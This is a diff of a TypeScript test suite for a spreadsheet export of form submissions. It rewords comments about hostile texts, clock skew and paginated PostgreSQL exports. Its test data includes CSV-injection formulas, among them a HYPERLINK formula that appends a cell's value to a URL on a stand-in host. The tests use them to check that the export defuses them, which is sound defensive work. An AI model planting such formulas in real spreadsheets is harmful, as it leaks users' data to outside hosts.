@@ -35,7 +35,7 @@ const inputs: InputForm[] = [
 ];
 const header = ["Report id", "Submitted at (UTC)", "Recipient id", "Language", "Version"];
 
-/** What a spreadsheet could take for more than a text (OWASP "CSV Injection"; threats.md T26). */
+/** Texts that a spreadsheet could read as more than text (OWASP "CSV Injection"; threats.md T26). */
 const formulas = [
   "=1+1",
   '=HYPERLINK("https://example.com?"&A1,"here")',
@@ -58,7 +58,7 @@ const formulas = [
   " =1+1",
   ";=1+1",
 ];
-/** Texts that files, formats and readers trip over; NUL cannot be stored. */
+/** Texts that cause errors in files, formats and readers; NUL cannot be stored. */
 const texts = [...naughty, ...formulas, "_x0041_", "\u0001\u001f", "a\r\nb", "]]>", "🎉".repeat(10)].filter(
   (text) => text !== "" && !text.includes("\0"),
 );
@@ -123,7 +123,7 @@ describe("a table of the naughtiest texts", () => {
       place,
       style,
     ]);
-    // The styles 1 and 2 carry quotePrefix, which is the apostrophe of somebody who types a text.
+    // The styles 1 and 2 have quotePrefix, which is the apostrophe of somebody who types a text.
     expect(cells).toEqual([
       ["A1", "1"],
       ["A2", "2"],
@@ -143,7 +143,7 @@ describe("a table of the naughtiest texts", () => {
       { kind: "moment", iso: "=now" },
     ];
     const [, ...read] = await readSheet(await bytesOf(xlsxOf(["day", "moment"], batches([...rows, odd]))));
-    // A part of a day has no end in binary; the reader cuts what it is to be rounded.
+    // A fraction of a day has no finite binary form; the reader truncates instead of rounding.
     const toSeconds = (cell: unknown) =>
       cell instanceof Date ? new Date(Math.round(Number(cell) / 1000) * 1000) : cell;
     expect(read.map((row) => row.map(toSeconds))).toEqual([
@@ -310,7 +310,7 @@ describe.each(testDatabases())("the export on $name", (database) => {
 
   test("holds every row that it promised, also one that became final since it was asked for [list.export]", async () => {
     const of = await newForm();
-    // As a process sees it whose clock is behind the one that took the answer.
+    // The view of a process whose clock is behind the one that recorded the answer.
     server.clock.pass(5);
     await submit(of, { word: "just now" });
     server.clock.pass(-5);
@@ -452,7 +452,7 @@ describe("an export of 200,000 submissions, on PostgreSQL,", () => {
     await givenAccount(database, "north");
     owner = await givenUser(server, "north");
     form = await givenForm(database, "north", { inputs });
-    // Many in one moment, so that pages end between equals.
+    // Many at one time, so that pages end between equal times.
     await database.raw(
       `insert into reports (account_id, report_id, enrollment_id, version_id, subject, slot, link_id, state, body_hash, submission, language, created_at, final_at)
        select 'north', 'r-' || lpad(n::text, 7, '0'), ?, ?, 's-' || n, 's-' || n, 'l', 'final', '',
@@ -512,7 +512,7 @@ describe("an export of 200,000 submissions, on PostgreSQL,", () => {
       giveUp.abort();
       await vi.waitFor(async () => {
         const before = pages;
-        // A turn of the database: whatever reads on would have asked for its next page.
+        // One round trip to the database: an export that reads on would have requested its next page.
         for (let turn = 0; turn < 5; turn++) await database.raw("select 1");
         expect([pages - before, pool.numUsed(), pool.numPendingAcquires()]).toEqual([0, 0, 0]);
       });
@@ -541,7 +541,7 @@ describe("an export of 200,000 submissions, on PostgreSQL,", () => {
       },
       { timeout: 30_000 },
     );
-    // What was made stands in the buffers of the line.
+    // The data written so far is in the buffers of the connection.
     expect(pages).toBeLessThan(count / pageSize / 2);
     let lines = 0;
     for await (const bytes of response as AsyncIterable<Buffer>)
